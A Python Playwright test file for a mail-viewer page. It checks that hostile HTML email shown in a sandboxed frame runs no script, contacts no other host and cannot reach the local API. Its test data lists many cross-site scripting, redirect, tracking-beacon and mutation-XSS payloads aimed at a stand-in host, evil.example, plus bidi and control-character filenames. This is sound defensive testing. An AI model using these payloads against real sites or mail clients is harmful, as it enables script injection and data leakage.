"""Mail from strangers, opened on the page: nothing of it runs, asks another host, or reaches the API."""

from __future__ import annotations

import time
from email.message import EmailMessage
from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import expect

from tests.local.page.conftest import a_context

if TYPE_CHECKING:
    from playwright.sync_api import Browser, FrameLocator

    from tests.local.page.conftest import Driven, Trap

pytestmark = pytest.mark.xdist_group("page")

_RUN = "top.ran = 1; alert(1); fetch('//evil.example')"
_DATA_PAGE = "data:text/html,<script>top.ran=1;alert(1)</script>"

# ruff: noqa: E501 - each is one piece of HTML
SHOWN: dict[str, str] = {
    "scripts": f"<script>{_RUN}</script><script src=//evil.example/x.js></script>"
    f"<script type=module>{_RUN}</script><script type=speculationrules>"
    '{"prefetch": [{"source": "list", "urls": ["http://evil.example/"]}]}</script>',
    "handlers": f'<img src=x onerror="{_RUN}"><body onload="{_RUN}" onpageshow="{_RUN}"><input autofocus onfocus="{_RUN}">'
    f'<details open ontoggle="{_RUN}"><video><source onerror="{_RUN}"></video>'
    f'<style onload="{_RUN}"></style><p style=\'animation: x\' onanimationstart="{_RUN}">',
    "refresh": "<meta http-equiv=refresh content='0; url=http://evil.example/'>",
    "refreshes": f"<meta http-equiv=refresh content=\"0; url={_DATA_PAGE}\"><meta http-equiv=refresh content='0; url=/v1/status'>"
    "<meta http-equiv=set-cookie content=a=b><base href=http://evil.example/ target=_top>",
    "remote files": "<img src=http://evil.example/1 srcset='http://evil.example/2 2x'><body background=//evil.example/3>"
    "<picture><source srcset=//evil.example/4><img src=//evil.example/5></picture><video src=//evil.example/6 "
    "poster=//evil.example/7 autoplay></video><audio src=//evil.example/8 autoplay></audio><track src=//evil.example/9>"
    "<object data=//evil.example/10></object><embed src=//evil.example/11><input type=image src=//evil.example/12>",
    "links to load": "<link rel=stylesheet href=//evil.example/1><link rel=preconnect href=http://evil.example/>"
    "<link rel=dns-prefetch href=//evil.example><link rel=prefetch href=//evil.example/2><link rel=preload as=image "
    "href=//evil.example/3><link rel=icon href=//evil.example/4><link rel=modulepreload href=//evil.example/5>"
    "<link rel=manifest href=//evil.example/6><meta http-equiv=Link content='<http://evil.example/>; rel=preconnect'>"
    "<meta http-equiv=x-dns-prefetch-control content=on><a href=http://dns.evil.example/>dns</a>",
    "styles": "<style>@import '//evil.example/1'; @import url(http://evil.example/2); @font-face { font-family: x; "
    "src: url(//evil.example/3) } body { background: url(//evil.example/4); font-family: x; cursor: url(//evil.example/5), "
    "auto; list-style: url(//evil.example/6) } a::after { content: url(//evil.example/7) } </style>"
    "<p style='background-image: url(//evil.example/8); border-image: url(//evil.example/9)'><li><a>x</a>",
    "pictures with scripts": f'<svg onload="{_RUN}"><script>{_RUN}</script><image href=//evil.example/1 /><use '
    "href='//evil.example/2#a' /><foreignObject><iframe src=//evil.example/3></iframe></foreignObject><animate "
    f'onbegin="{_RUN}" attributeName=x /></svg><math><mi xlink:href="javascript:{_RUN}">x</mi></math>'
    f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">",
    "frames": f'<iframe src=http://evil.example/></iframe><iframe src="javascript:{_RUN}"></iframe>'
    '<iframe src=/></iframe><iframe src=/v1/status></iframe><iframe srcdoc="<script>top.ran=1;alert(1)</script>'
    f'<img src=//evil.example/1>"></iframe><iframe src="{_DATA_PAGE}"></iframe><object data=/v1/status></object>'
    "<frameset><frame src=//evil.example/2></frameset><portal src=//evil.example/3></portal>",
    "ways out of the frame": f'"></iframe></div></html><script>{_RUN}</script>\'"--></style></script></title></textarea>'
    f'<script>{_RUN}</script><img src=x onerror="{_RUN}"><![CDATA[ <script>{_RUN}</script> ]]><plaintext>',
    "a policy of its own": "<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline' data:\">"
    f"<script>{_RUN}</script><img src=//evil.example/1>",
    "open markup": '<!-- <noscript><p title="</noscript><img src=x onerror=alert(1)>"><svg></p><style><a id="</style>'
    '<img src=x onerror=alert(1)>"><math><mtext><table><mglyph><style><!--</style><img title="--><img src=//evil.example '
    'onerror=alert(1)>">',
}

CLICKED: dict[str, str] = {
    "link": "<a href=http://evil.example/>go</a>",
    "link to the top": "<a target=_top href=http://evil.example/>go</a>",
    "link to the parent": "<a target=_parent href=http://evil.example/>go</a>",
    "link in the frame": "<a target=_self href=http://evil.example/>go</a>",
    "link to the API": "<a target=_self href=/v1/status>go</a>",
    "link to the page": "<a target=_top href='/#rules'>go</a>",
    "script": f'<a target=_self href="javascript:{_RUN}">go</a>',
    "handler": f'<b onclick="{_RUN}">go</b>',
    "ping": "<a href=http://evil.example/ ping=http://evil.example/ping>go</a>",
    "download": "<a download href=/v1/status>go</a>",
    "form": "<form action=http://evil.example/ method=post target=_top><button>go</button></form>",
    "form to the API": "<form action=/v1/reset method=post target=_self><button>go</button></form>",
    "button of a form": "<form id=f></form><button form=f formaction=/v1/reset formmethod=post>go</button>",
}


def html_mail(markup: str, *, subject: str = "hostile") -> EmailMessage:
    message = EmailMessage()
    message["From"] = "mallory@other.test"
    message["To"] = "bob@example.com"
    message["Subject"] = subject
    message.set_content(f"{markup}<p>THE END</p>", subtype="html")
    return message


def frame_of(driven: Driven, markup: str, *, shown: str) -> FrameLocator:
    """Send a message, open it, and return the frame that shows it, once it does."""
    sent = driven.local.send(html_mail(markup))
    driven.open(f"message/{sent.id}")
    frame = driven.message.frame_locator("iframe")
    frame.locator("body").filter(has_text=shown).or_(frame.locator("frameset")).first.wait_for(state="attached")
    return frame


def assert_nothing_happened(driven: Driven) -> None:
    """What the fixture checks at its end besides: no dialog, no failed script, nothing asked of another host."""
    page = driven.page
    # A round trip of the page after whatever the frame was about to do.
    driven.local.send(html_mail("later", subject="later"))
    expect(driven.rows.filter(has_text="later")).to_have_count(1)
    assert page.evaluate("window.ran") is None
    assert "#message/" in page.url
    assert len(page.context.pages) == 1
    for frame in page.frames[1:]:
        assert frame.url in {"about:srcdoc", "about:blank", "chrome-error://chromewebdata/", ""}, frame.url
    asked = {url.removeprefix(driven.local.daemon.ready["api"]).partition("?")[0] for url in driven.requests}
    assert not [url for url in asked if url.startswith("/v1/reset")]
    assert len(driven.local.daemon.client.get("/v1/messages")["messages"]) == 2


@pytest.mark.parametrize("name", SHOWN)
def test_nothing_of_a_message_that_is_shown_runs_or_leaves(driven: Driven, name: str) -> None:
    markup = SHOWN[name]
    frame_of(driven, markup, shown="" if name == "open markup" else "THE END")
    assert_nothing_happened(driven)


@pytest.mark.parametrize("name", CLICKED)
def test_nothing_of_a_message_that_is_clicked_runs_or_leaves(driven: Driven, name: str) -> None:
    frame = frame_of(driven, CLICKED[name], shown="go")
    for modifiers in ([], ["ControlOrMeta"], ["Shift"]):
        target = frame.get_by_text("go", exact=True)
        if target.count():  # a blocked navigation may have replaced the document
            target.click(modifiers=modifiers)  # type: ignore[arg-type]
    assert_nothing_happened(driven)


@pytest.mark.parametrize("name", ["remote files", "links to load", "styles", "refresh"])
def test_without_the_frame_the_same_message_does_reach_the_other_host(browser: Browser, trap: Trap, name: str) -> None:
    """The control: the trap catches what the tests above say does not happen."""
    with a_context(browser) as context:
        page = context.new_page()
        page.goto(f"data:text/html,<p>{name}</p>")
        before = trap.connections
        markup = SHOWN[name].replace("//evil", "http://evil").replace("http:http:", "http:")
        page.set_content(markup, wait_until="commit")
        until = time.monotonic() + 15
        while trap.connections == before and time.monotonic() < until:
            page.wait_for_timeout(20)
        assert trap.connections > before


def test_a_message_has_no_way_to_the_page_and_its_token(driven: Driven) -> None:
    """Even a script, which a debugger may run there, finds another origin, no token and no network."""
    frame_of(driven, "<p>x</p>", shown="THE END")
    (inner,) = driven.page.frames[1:]
    assert inner.evaluate("origin") == "null"
    for code in ("parent.document.title", "top.sessionStorage.length", "sessionStorage.length", "document.cookie"):
        assert (
            inner.evaluate(f"() => {{ try {{ return String({code}) }} catch (e) {{ return e.name }} }}")
            == "SecurityError"
        )
    api = driven.local.daemon.ready["api"]
    asked = inner.evaluate("url => fetch(url).then(() => 'answered', () => 'refused')", f"{api}/v1/status")
    assert asked == "refused"


TEXTS = {
    "markup": "<img src=x onerror=alert(1)><script>top.ran=1</script>",
    "closing": "</option></title></script><iframe src=//evil.example>",
    "bidi": "\u202egnp.exe \u2066\u2067\u202d",
    "controls": "a\x1b[31m\x07\x00b\x7f",
    "long": "W" * 5000,
    "combining": "Z" + "\u0300" * 500,
}


@pytest.mark.parametrize("name", TEXTS)
def test_text_of_others_stays_text_everywhere(driven: Driven, name: str) -> None:
    text = TEXTS[name]
    message = (
        f"From: <mallory@other.test>\r\nTo: bob@example.com\r\nSubject: {text}\r\n"
        f"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{text}\r\n--b\r\nContent-Type: x/y\r\n"
        f'Content-Disposition: attachment; filename="{text[:200]}"\r\n\r\nx\r\n--b--\r\n'
    ).encode()
    sent = driven.local.send(message)
    driven.open()
    listed = driven.rows.first
    row = listed.bounding_box()
    assert row is not None
    assert (row["height"], listed.locator("*").count()) == (76, driven_row_elements(driven))
    driven.go(f"message/{sent.id}")
    start = text[:20].split("\x1b")[0].strip()
    expect(driven.message.get_by_role("heading", level=2)).to_contain_text(start)
    expect(driven.message.get_by_text("Attachments")).to_be_visible()
    for way in ("Text", "Source"):
        driven.message.get_by_label(way).check()
        expect(driven.message.locator(".shown")).not_to_be_empty()
    wide = driven.page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
    assert wide <= 0
    assert driven.page.locator("#message iframe, #message img, #message script").count() == 0
    driven.go("mailbox/bob@example.com")
    expect(driven.page.locator("#other-view table a").last).to_contain_text(start)
    assert driven.page.evaluate("window.ran") is None


def driven_row_elements(driven: Driven) -> int:
    """How many elements the row of any message has."""
    driven.local.send(html_mail("", subject="plain"))
    plain = driven.rows.filter(has_text="plain")
    expect(plain).to_have_count(1)
    return plain.locator("*").count()


def test_every_word_of_a_hostile_reply_log_and_rule_is_text(driven: Driven, tmp_path: object) -> None:
    from pathlib import Path

    folder = Path(str(tmp_path))
    evil = "<img src=x onerror=alert(1)>"
    (folder / "app.py").write_text(
        "def handler(event, context):\n"
        f"    print({evil!r})\n"
        f"    return {{'actions': [{{'allRecipients': True, 'action': {{'type': 'BOUNCE', "
        f"'parameters': {{'bounceMessage': {evil!r}}}}}}}]}}\n"
    )
    driven.local.deploy_handler(folder, name="rule")
    sent = driven.local.send(html_mail("x"))
    driven.open(f"message/{sent.id}")
    expect(driven.message.get_by_role("region", name="Recipients")).to_contain_text(evil)
    driven.message.get_by_text("Attempt 1:").click()
    for region in ("Log", "Reply"):
        expect(driven.message.get_by_role("region", name=region)).to_contain_text(evil)
    assert driven.page.locator("#message img").count() == 0


def test_remote_files_are_counted(driven: Driven) -> None:
    frame_of(driven, "<img src=http://evil.example/1><img src='//evil.example/2'>", shown="THE END")
    expect(driven.message.get_by_text("2 remote files are not loaded.")).to_be_visible()
